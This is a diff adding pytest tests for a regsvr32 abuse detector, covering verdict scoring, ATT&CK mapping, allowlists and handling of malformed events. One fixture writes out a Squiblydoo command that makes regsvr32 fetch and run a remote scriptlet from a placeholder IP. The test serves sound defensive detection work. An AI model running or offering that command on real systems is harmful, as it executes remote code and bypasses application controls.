@@ -1,0 +1,62 @@
+"""Verdicts: score, severity, reasons, ATT&CK ids, allowlisted findings and errors."""
+import pytest
+
+from regsvr32_detector import OUTPUT_FIELDS, RULES_BY_ID, Detector, load_allowlists
+from regsvr32_detector.rules import proc
+
+from allowlists import HEADER, allowlist_row
+
+SQUIBLYDOO = proc("regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll")
+
+
+def test_verdict_names_the_evidence():
+    v = Detector().evaluate(SQUIBLYDOO)
+    assert "R32-001: scriptlet fetched from http://203.0.113.9/pay.sct via /i: and scrobj.dll" in v.reasons
+    assert v.score == max(RULES_BY_ID[r].risk for r in v.rules) and v.severity == "critical"
+    assert v.mitre == tuple(sorted(set(t for r in v.rules for t in RULES_BY_ID[r].techniques)))
+    assert list(v.rules) == sorted(v.rules)
+
+
+def test_fields_are_the_output_contract():
+    f = Detector().evaluate(SQUIBLYDOO).fields()
+    assert tuple(f) == OUTPUT_FIELDS
+    assert f["regsvr32_score"] == "90" and f["regsvr32_error"] == ""
+    assert all(isinstance(f[k], list) for k in ("regsvr32_rules", "regsvr32_reasons", "regsvr32_mitre",
+                                                 "regsvr32_allowlisted"))
+
+
+def test_ordinary_row_scores_zero_with_every_field():
+    f = Detector().evaluate({"process_name": "notepad.exe", "process": "notepad"}).fields()
+    assert f == {"regsvr32_score": "0", "regsvr32_severity": "none", "regsvr32_rules": [],
+                 "regsvr32_reasons": [], "regsvr32_mitre": [], "regsvr32_allowlisted": [], "regsvr32_error": "",
+                 "regsvr32_signature": ""}
+
+
+def test_allowlisted_finding_is_kept_and_explained(tmp_path):
+    path = tmp_path / "a.csv"
+    path.write_text(HEADER + allowlist_row(rule_id="*", url_host="203.0.113.9", reason="red team range",
+                                           source="SEC-1"))
+    allowlist, _ = load_allowlists([str(path)])
+    v = Detector(allowlist).evaluate(SQUIBLYDOO)
+    assert "R32-002" not in v.rules and "R32-002 allowlisted: red team range (a.csv:2)" in v.allowlisted
+    assert v.score < Detector().evaluate(SQUIBLYDOO).score or v.score == 0
+
+
+class Exploding(dict):
+    def items(self):
+        raise RuntimeError("boom")
+
+
+@pytest.mark.parametrize("record", [
+    None, [], 42, "regsvr32", {"Image": None}, {"Image": 7, "CommandLine": b"regsvr32"},
+    {"Image": ["regsvr32.exe", None]}, {"CommandLine": "regsvr32 " + "\x00" * 10}, Exploding(),
+], ids=["none", "list", "int", "str", "none-value", "odd-types", "mv-none", "nul", "raises"])
+def test_evaluate_never_raises(record):
+    v = Detector().evaluate(record)
+    assert 0 <= v.score <= 100
+    assert set(v.fields()) == set(OUTPUT_FIELDS)
+
+
+def test_an_unevaluable_row_says_why():
+    v = Detector().evaluate(Exploding())
+    assert v.score == 0 and v.error.startswith("could not evaluate this event (RuntimeError: boom)")
